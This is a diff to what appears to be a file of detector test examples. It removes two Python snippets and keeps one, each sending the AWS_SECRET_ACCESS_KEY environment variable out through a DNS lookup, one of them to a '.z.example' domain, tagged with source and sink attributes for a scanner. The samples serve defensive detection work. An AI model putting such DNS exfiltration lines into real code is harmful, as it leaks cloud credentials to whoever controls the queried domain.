@@ -105,36 +105,6 @@ export const inPython: DetectorExamples = {
       path: 'x.py',
       code: [
         'import os, socket',
-        'from urllib.parse import urlparse',
-        "socket.getaddrinfo(urlparse(os.environ['AWS_SECRET_ACCESS_KEY']).hostname, 443)",
-      ].join('\n'),
-      why: 'as the host of an address',
-      attributes: {
-        source: 'environment:AWS_SECRET_ACCESS_KEY',
-        sink: 'dns.host',
-        to: 'dynamic',
-      },
-    },
-    {
-      path: 'x.py',
-      code: [
-        'import os, socket',
-        'from urllib.parse import urlparse',
-        'def check(url):',
-        '    socket.getaddrinfo(urlparse(url).hostname, 443)',
-        "check('https://' + os.environ['AWS_SECRET_ACCESS_KEY'] + zone)",
-      ].join('\n'),
-      why: 'in the labels of the host of an address that is put together',
-      attributes: {
-        source: 'environment:AWS_SECRET_ACCESS_KEY',
-        sink: 'dns.name',
-        to: 'dynamic',
-      },
-    },
-    {
-      path: 'x.py',
-      code: [
-        'import os, socket',
         "socket.gethostbyname(os.environ['AWS_SECRET_ACCESS_KEY'] + '.z.example')",
       ].join('\n'),
       why: 'in the labels of a name',
